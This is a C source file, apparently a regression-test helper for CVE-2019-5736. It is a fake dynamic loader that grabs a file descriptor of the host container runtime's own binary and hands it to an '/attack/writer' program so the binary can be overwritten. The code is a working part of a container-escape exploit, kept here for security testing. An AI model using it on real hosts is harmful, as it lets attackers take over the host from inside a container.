/* The attacker's ELF interpreter for tests/system/security_exe.sh
 * (CVE-2019-5736): installed as the container's
 * /lib64/ld-linux-x86-64.so.2, it runs in place of the dynamic loader of
 * whatever dynamic program the kernel starts in the container, and a script
 * beginning `#!/proc/self/exe` makes that program the runtime's own binary.
 * It writes what /proc/self/exe is to /out/exe, keeps an O_PATH fd of it
 * (no O_CLOEXEC) and hands that to /attack/writer, which waits until the
 * binary is no longer running and writes it.
 *
 * No libc: glibc's static start-up reads the program headers of the main
 * program from the aux vector, which for an interpreter is not itself.
 * x86_64 only (the test skips elsewhere). */
#include <sys/syscall.h>

__asm__(".text\n"
	".globl _start\n"
	"_start:\n"
	"	xor %rbp, %rbp\n"
	"	mov %rsp, %rdi\n"
	"	and $-16, %rsp\n"
	"	call fake_main\n"
	"	hlt\n");

void fake_main(long *sp) __attribute__((noreturn, used));

static long sc(long nr, long a, long b, long c)
{
	long r;
	__asm__ volatile("syscall"
			 : "=a"(r)
			 : "a"(nr), "D"(a), "S"(b), "d"(c)
			 : "rcx", "r11", "memory");
	return r;
}

static unsigned long slen(const char *s)
{
	unsigned long n = 0;
	while (s[n])
		n++;
	return n;
}

void fake_main(long *sp)
{
	long argc = sp[0];
	char **envp = (char **)(sp + 1) + argc + 1;
	char link[512], fdstr[16];
	char *args[] = {"writer", fdstr, 0};
	long fd, n, out, i = 0;

	fd = sc(SYS_open, (long)"/proc/self/exe", 010000000 /* O_PATH */, 0);
	n = sc(SYS_readlink, (long)"/proc/self/exe", (long)link, sizeof(link) - 1);
	if (n < 0)
		n = 0;
	link[n] = '\0';
	out = sc(SYS_open, (long)"/out/exe", 01 | 0100 | 02000 /* WRONLY CREAT APPEND */, 0644);
	sc(SYS_write, out, (long)"exe=", 4);
	sc(SYS_write, out, (long)link, (long)slen(link));
	sc(SYS_write, out, (long)"\n", 1);
	sc(SYS_close, out, 0, 0);
	if (fd < 0)
		sc(SYS_exit_group, 1, 0, 0);
	/* fd as text */
	{
		char tmp[16];
		long v = fd, k = 0;
		do
			tmp[k++] = (char)('0' + v % 10);
		while ((v /= 10) && k < 15);
		while (k)
			fdstr[i++] = tmp[--k];
		fdstr[i] = '\0';
	}
	/* as pid 1 the container ends with us: become the writer; else leave
	 * the exec'ing runtime a process that exited, and write from a child */
	if (sc(SYS_getpid, 0, 0, 0) != 1) {
		long pid = sc(SYS_fork, 0, 0, 0);
		if (pid != 0)
			sc(SYS_exit_group, 0, 0, 0);
		sc(SYS_setsid, 0, 0, 0);
		long null = sc(SYS_open, (long)"/dev/null", 02, 0);
		for (long k = 0; k < 3; k++)
			sc(SYS_dup2, null, k, 0);
	}
	sc(SYS_execve, (long)"/attack/writer", (long)args, (long)envp);
	sc(SYS_exit_group, 2, 0, 0);
	for (;;)
		;
}
